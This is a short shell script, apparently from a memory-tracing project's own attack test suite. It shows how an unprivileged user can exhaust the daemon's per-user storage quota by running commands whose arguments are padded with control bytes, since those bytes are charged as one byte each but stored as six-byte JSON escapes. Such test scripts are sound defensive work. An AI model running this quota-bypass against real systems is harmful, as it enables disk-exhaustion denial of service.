#!/bin/sh
# store_cmdline.sh - (hostile9) the store charges a process's arguments by
# strlen()+1 but keeps them as a JSON array: each control byte (\x01) is
# stored as "\u0001", 6 bytes for 1 charged. Run as the attacker against a
# memtraced started with --max-store-bytes-per-uid 4194304:
#   setpriv --reuid=65534 --regid=65534 --clear-groups \
#       sh bench/attacks/store_cmdline.sh RUNDIR /path/to/libmemtrace.so [N=150]
# then (root): memtracectl status (store.bytes) vs
#   sqlite3 STATE/memtrace.db "select sum(length(cmdline)) from process"; ls -l STATE
run=$1 lib=$2 n=${3:-150}
a=$(python3 -c 'print("\x01"*32000)')
i=0
while [ $i -lt "$n" ]; do
	LD_PRELOAD=$lib MEMTRACE_RUNTIME_DIR=$run /bin/ls -d / "$a" "$a" >/dev/null 2>&1
	i=$((i + 1))
done
